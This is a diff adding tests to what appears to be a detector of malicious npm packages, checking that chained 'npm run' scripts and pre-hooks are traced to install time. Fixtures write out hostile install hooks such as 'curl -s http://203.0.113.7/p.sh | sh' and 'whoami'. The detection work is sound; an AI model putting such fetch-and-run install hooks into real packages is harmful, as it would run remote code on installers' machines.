@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+import json
 import time
 from pathlib import Path
 
-from seq_helpers import assert_in_order, folder_package, ids, scan_case
+from seq_helpers import PACKAGES, assert_in_order, folder_package, ids, scan_case
 
 from malseq._deadline import Deadline
 from malseq.features import analyse_package
@@ -208,3 +209,77 @@ def test_analyse_returns_events_sequence_and_model_text() -> None:
     analysed = analyse(package, Deadline(60))
     assert analysed.analysis.all_events() == analysis.all_events()
     assert analysed.ids == seq.ids and analysed.text == model_text(render_text(seq))
+
+
+def test_events_of_a_script_run_through_npm_run_are_attributed_reported_and_at_install() -> None:
+    """postinstall runs `npm run setup`; setup runs `node x.js && curl ... | sh`."""
+    from malseq.report.json_report import render_json
+    from malseq.scan import ScanOptions, scan
+
+    _, analysis, seq = scan_case("npm_run_setup_curl")
+    by_script = {(e.behaviour, e.script) for e in analysis.manifest_events}
+    assert ("npm_install_script", "postinstall") in by_script
+    assert {("network_request", "setup"), ("download_and_execute", "setup")} <= by_script
+    assert all(e.script != "test" for e in analysis.manifest_events)  # not run at install
+    # The sequence finds them by script name and places them at install, the file setup runs after.
+    install = [s for s in seq.steps if s.stage is INSTALL]
+    assert_in_order([s.behaviour for s in install],
+                    ["npm_install_script", "network_request", "download_and_execute", "collect_system_info"])
+    assert {s.entry for s in install if s.behaviour == "download_and_execute"} == {
+        "setup: node x.js && curl -s http://203.0.113.7/p.sh | sh"}
+    assert ("postinstall > setup: node x.js", "x.js") in [(e.label, e.file) for e in seq.entry_points]
+    assert not seq.stage_steps(UNREACHED)
+    # ... and they are in the JSON report's behaviours list.
+    [result] = scan([str(PACKAGES / "npm_run_setup_curl")], ScanOptions(score=False))
+    behaviours = json.loads(render_json([result]))[0]["behaviours"]
+    reported = {(b["id"], b["snippet"].split(":", 1)[0]) for b in behaviours if b["file"] == "package.json"}
+    assert {("download_and_execute", "setup"), ("network_request", "setup"), ("npm_install_script", "postinstall")} \
+        <= reported
+
+
+def test_npm_run_cycles_terminate(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {
+        "package.json": json.dumps({"name": "loop", "version": "1.0.0", "scripts": {
+            "preinstall": "npm run a", "a": "npm run b && curl http://x", "b": "yarn a; pnpm c",
+            "c": "npm run preinstall && npm run c && whoami", "postinstall": "npm run b"}}),
+    })
+    analysis = analyse_package(package, Deadline(60))
+    scripts = [e.script for e in analysis.manifest_events]
+    # Each script analysed once, in the order the chains reach them (b only runs other scripts).
+    assert list(dict.fromkeys(scripts)) == ["preinstall", "a", "c", "postinstall"]
+    assert scripts.count("a") == 3  # shell_command, network_request, use_url: once each
+    assert ("collect_system_info", "c") in {(e.behaviour, e.script) for e in analysis.manifest_events}
+    seq = build_sequence(package, analysis, Deadline(60))
+    assert not seq.budget_exhausted
+    install = ids(seq, INSTALL)
+    assert_in_order(install, ["npm_install_script", "network_request", "collect_system_info"])
+    assert not seq.stage_steps(UNREACHED)
+
+
+def test_pre_hook_of_a_script_run_at_install(tmp_path: Path) -> None:
+    package = folder_package(tmp_path, {
+        "package.json": json.dumps({"name": "hooked", "version": "1.0.0", "scripts": {
+            "postinstall": "npm run build", "prebuild": "curl -s http://x/p.sh | sh", "build": "node b.js"}}),
+        "b.js": "const os = require('os');\nos.hostname();\n",
+    })
+    analysis = analyse_package(package, Deadline(60))
+    assert ("download_and_execute", "prebuild") in {(e.behaviour, e.script) for e in analysis.manifest_events}
+    seq = build_sequence(package, analysis, Deadline(60))
+    assert_in_order(ids(seq, INSTALL), ["npm_install_script", "download_and_execute", "collect_system_info"])
+    assert "postinstall > build: node b.js" in [e.label for e in seq.entry_points]
+    assert not seq.stage_steps(UNREACHED)
+
+
+def test_web_of_scripts_running_each_other_is_bounded(tmp_path: Path) -> None:
+    names = [f"s{i}" for i in range(40)]
+    scripts = {n: " && ".join(f"npm run {m}" for m in names) for n in names}
+    scripts["postinstall"] = "npm run s0 && curl http://x | sh"
+    package = folder_package(tmp_path, {"package.json": json.dumps({"name": "web", "version": "1.0.0",
+                                                                     "scripts": scripts})})
+    analysis = analyse_package(package, Deadline(60))
+    assert len({e.script for e in analysis.manifest_events}) == 1  # only postinstall does anything itself
+    # Every `npm run X` costs work, so the walk stops on its work budget, not on the deadline.
+    seq = build_sequence(package, analysis, Deadline(600), max_work=20_000)
+    assert seq.budget_exhausted
+    assert ids(seq, INSTALL)[:2] == ["npm_install_script", "shell_command"]
+    assert len(seq.entry_points) <= 256  # thousands of distinct script paths are not all listed
